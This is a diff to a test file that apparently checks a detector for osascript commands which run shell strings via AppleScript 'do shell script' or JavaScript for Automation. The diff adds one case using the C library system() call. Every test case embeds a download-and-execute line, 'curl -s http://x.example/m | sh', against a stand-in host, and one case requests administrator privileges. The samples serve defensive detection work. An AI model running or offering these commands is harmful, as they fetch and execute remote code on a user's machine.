@@ -64,6 +64,10 @@ describe("osascript: AppleScript's do shell script runs its string with sh", () 
     [`osascript -e "do shell script \\"curl -s http://x.example/m | sh\\" with administrator privileges"`, 'escaped quotes, parameters'],
     [`osascript -e 'tell application "Finder" to do shell script "curl -s http://x.example/m | sh"'`, 'inside a tell'],
     [`osascript -l JavaScript -e 'Application.currentApplication().doShellScript("curl -s http://x.example/m | sh")'`, 'JavaScript'],
+    [
+      `osascript -l JavaScript -e 'ObjC.import("stdlib"); $.system("curl -s http://x.example/m | sh")'`,
+      'JavaScript, the C library system()',
+    ],
     [`osascript -e 'do  shell  script "curl -s " & theHost & " | sh"'`, 'a variable operand'],
   ])('%s (%s)', (text) => {
     const d = doc(text, 'bash');
